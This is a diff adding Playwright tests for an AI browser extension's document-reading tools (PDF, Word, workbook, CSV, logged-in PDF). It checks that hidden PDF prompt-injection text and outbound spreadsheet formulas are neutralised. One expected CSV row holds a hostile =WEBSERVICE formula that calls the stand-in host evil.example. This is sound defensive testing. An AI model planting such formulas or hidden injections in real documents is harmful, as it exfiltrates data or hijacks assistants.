@@ -1,0 +1,123 @@
+/**
+ * Documents through the built extension: fetch_url reads a real PDF (by page, hidden text left out), a Word
+ * file, a workbook served as octet-stream (header repeated, row range named, formulas as values) and a CSV; a
+ * scan says it has no text; read_page on a tab that shows a PDF behind the site's login reads it with the
+ * user's cookies. What the model receives is read off the fake LLM's requests.
+ */
+import type { Page } from '@playwright/test';
+import {
+  DOCX_FACT,
+  PDF_FACTS,
+  PDF_HIDDEN_INJECTION,
+  SESSION_COOKIE,
+  STATEMENT_FACT,
+  startFakeWeb,
+  type FakeWeb,
+} from '../fake-web/fake-web';
+import { unwrapUntrusted } from '../security/untrusted-block';
+import { addProvider, assistantMessages, chatRequests, expect, openPanel, sendChat, test } from './fixtures';
+
+let web: FakeWeb;
+test.beforeAll(async () => {
+  web = await startFakeWeb();
+});
+test.afterAll(async () => web?.close());
+
+const call = (name: string, args: unknown) => ({ toolCalls: [{ name, arguments: JSON.stringify(args) }] });
+const card = (panel: Page, tool: string) => panel.locator(`.tool-card[data-tool="${tool}"]`);
+
+/** Every tool result the model was sent in the run's last request (the OpenAI wire: role "tool" messages). */
+function toolResults(body: unknown): string[] {
+  const messages = (body as { messages: { role: string; content: unknown }[] }).messages;
+  return messages.filter((m) => m.role === 'tool').map((m) => String(m.content));
+}
+
+test('fetch_url reads a PDF by page without its hidden text, a Word file, a workbook and a CSV; a scan says it has no text', async ({
+  context,
+  extensionId,
+  llm,
+  extPage,
+}) => {
+  test.setTimeout(120_000);
+  await addProvider(extPage, {
+    kind: 'openai-compatible',
+    name: 'Fake',
+    baseUrl: llm.openaiBaseUrl,
+    model: 'fake-model',
+  });
+  llm.enqueue(
+    call('fetch_url', { url: `${web.url}/report.pdf` }),
+    call('fetch_url', { url: `${web.url}/policy.docx` }),
+    call('fetch_url', { url: `${web.url}/figures.xlsx` }),
+    call('fetch_url', { url: `${web.url}/list.csv` }),
+    call('fetch_url', { url: `${web.url}/scan.pdf` }),
+    { text: ['Revenue was 4.2 million euros (page 1).'] },
+  );
+  const panel = await openPanel(context, extensionId);
+  await sendChat(panel, 'Read the report, the policy and the figures.');
+  await card(panel, 'fetch_url').first().getByRole('button', { name: 'Approve' }).click({ timeout: 30_000 });
+  const answer = assistantMessages(panel).last();
+  await expect(answer).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
+
+  const last = chatRequests(llm).at(-1)!;
+  const [pdf, docx, xlsx, csv, scan] = toolResults(last.body).map(
+    (r) => JSON.parse(unwrapUntrusted(r)) as { title: string; markdown: string; notes?: string[] },
+  );
+  expect(pdf!.markdown).toBe(`--- Page 1 ---\n${PDF_FACTS[0]}\n\n--- Page 2 ---\n${PDF_FACTS[1]}`);
+  expect(pdf!.notes).toContain('2 pieces of text a reader cannot see were left out.');
+  expect(JSON.stringify(last.body)).not.toContain('PDF-HIDDEN');
+  expect(JSON.stringify(last.body)).not.toContain(PDF_HIDDEN_INJECTION);
+  expect(JSON.stringify(last.body)).not.toContain('PDF-TINY');
+  expect(docx!.markdown).toBe(`# Travel policy\n\n${DOCX_FACT}`);
+  const slices = xlsx!.markdown.split('\n\n');
+  expect(slices[0]!.split('\n').slice(0, 2)).toEqual(['Sheet "Q3", rows 2–61 of 72', '| Region | Revenue |']);
+  expect(slices[1]!.split('\n').slice(0, 2)).toEqual(['Sheet "Q3", rows 62–72 of 72', '| Region | Revenue |']);
+  expect(slices[1]).toContain('| Link | Open |');
+  expect(xlsx!.markdown).not.toContain('evil.example');
+  expect(csv!.markdown).toContain('| Grace | =WEBSERVICE("https://evil.example/csv") |');
+  expect(scan!.notes).toContain('Every page is an image with no text layer (a scan): there is no text to read.');
+  // The cards show every call as done.
+  await expect(card(panel, 'fetch_url')).toHaveCount(5);
+  for (let i = 0; i < 5; i++) await expect(card(panel, 'fetch_url').nth(i)).toHaveAttribute('data-status', 'done');
+  // Nothing in a document made a request of its own: the fake web heard only the five fetches.
+  expect(
+    web.requests.filter(
+      (r) => !['/report.pdf', '/policy.docx', '/figures.xlsx', '/list.csv', '/scan.pdf'].includes(r.path),
+    ),
+  ).toEqual([]);
+});
+
+test('read_page on a tab showing a PDF behind a login reads it with the cookies the tab had, page by page', async ({
+  context,
+  extensionId,
+  llm,
+  extPage,
+}) => {
+  test.setTimeout(120_000);
+  await addProvider(extPage, {
+    kind: 'openai-compatible',
+    name: 'Fake',
+    baseUrl: llm.openaiBaseUrl,
+    model: 'fake-model',
+  });
+  await context.addCookies([{ ...SESSION_COOKIE, url: web.url }]);
+  const tab = await context.newPage();
+  await tab.goto(`${web.url}/members/statement.pdf`);
+  llm.enqueue(call('read_page', {}), { text: ['Your balance was 1,234.56 euros.'] });
+  const panel = await openPanel(context, extensionId);
+  await sendChat(panel, 'Summarise this PDF.');
+  const answer = assistantMessages(panel).last();
+  await expect(answer).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
+  const result = toolResults(chatRequests(llm).at(-1)!.body).at(-1)!;
+  const reading = JSON.parse(unwrapUntrusted(result)) as { title: string; markdown: string; documentType: string };
+  expect(reading.markdown).toBe(`--- Page 1 ---\n${STATEMENT_FACT}`);
+  expect(reading.title).toBe('Account statement');
+  expect(reading.documentType).toBe('application/pdf');
+  // The background's own fetch carried the session cookie (the tab's load did too).
+  const fetches = web.requests.filter((r) => r.path === '/members/statement.pdf');
+  expect(fetches.length).toBeGreaterThanOrEqual(2);
+  expect(
+    fetches.every((r) => String(r.headers.cookie).includes(`${SESSION_COOKIE.name}=${SESSION_COOKIE.value}`)),
+  ).toBe(true);
+  await expect(card(panel, 'read_page')).toHaveAttribute('data-status', 'done');
+});
